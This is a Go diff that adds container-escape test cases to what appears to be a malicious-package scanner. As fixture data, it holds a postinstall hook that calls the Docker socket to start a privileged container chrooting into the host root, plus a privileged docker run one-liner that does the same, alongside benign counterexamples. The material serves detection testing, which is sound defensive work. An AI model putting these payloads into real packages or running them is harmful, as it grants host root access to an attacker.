@@ -67,3 +67,15 @@ func TestCryptominer(t *testing.T) {
 
 // bundlePad makes a file large enough to be taken for a bundle.
 var bundlePad = strings.Repeat("var a = b + c;\n", 40000)
+
+func TestContainerEscape(t *testing.T) {
+	rt.Check(t, ContainerEscape{}, []rt.Case{
+		{"socket_root_bind_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
+			"i.js": `const http = require("http"); const body = JSON.stringify({Image: "alpine", Cmd: ["chroot", "/host", "sh"], HostConfig: {Privileged: true, Binds: ["/:/host"]}});
+http.request({socketPath: "/var/run/docker.sock", path: "/containers/create", method: "POST"}).end(body)`}, finding.SeverityCritical},
+		{"docker_run_root", map[string]string{"index.js": `require("child_process").execSync("docker run --rm --privileged -v /:/host alpine chroot /host sh -c id")`}, finding.SeverityHigh},
+		// test containers mount the socket itself, not the host's root
+		{"testcontainers_like", map[string]string{"index.js": `const binds = ["/var/run/docker.sock:/var/run/docker.sock"]; docker.createContainer({Image: "ryuk", HostConfig: {Binds: binds}}); const socketPath = "/var/run/docker.sock"`}, finding.SeverityNone},
+		{"project_volume", map[string]string{"index.js": `require("child_process").spawn("docker", ["run", "--rm", "-v", process.cwd() + ":/src", "node:20", "npm", "test"])`}, finding.SeverityNone},
+	})
+}
